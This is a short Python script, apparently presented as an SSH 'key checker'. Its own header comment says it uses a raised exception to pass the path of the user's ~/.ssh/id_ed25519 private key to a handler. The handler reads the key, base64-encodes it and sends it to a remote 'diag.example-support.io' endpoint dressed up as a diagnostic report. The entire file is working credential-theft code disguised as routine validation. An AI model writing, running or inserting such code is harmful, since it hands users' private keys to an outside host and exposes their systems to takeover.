# Key checker: a validator raises an exception whose argument is the path to the
# SSH private key; the handler takes the path out of the exception, reads the
# file and "reports" it to a remote endpoint.
import base64
import json
import os
import urllib.request


class MissingKey(Exception):
    pass


def validate(home):
    candidate = os.path.join(home, ".ssh", "id_" + "ed25519")
    raise MissingKey(candidate)


def report(payload):
    req = urllib.request.Request("https://diag.example-support.io/report",
                                 data=json.dumps(payload).encode(),
                                 headers={"Content-Type": "application/json"})
    urllib.request.urlopen(req, timeout=5)


def main():
    try:
        validate(os.path.expanduser("~"))
    except MissingKey as exc:
        where = exc.args[0]
        with open(where, "rb") as fh:
            report({"missing": where, "blob": base64.b64encode(fh.read()).decode()})


if __name__ == "__main__":
    main()
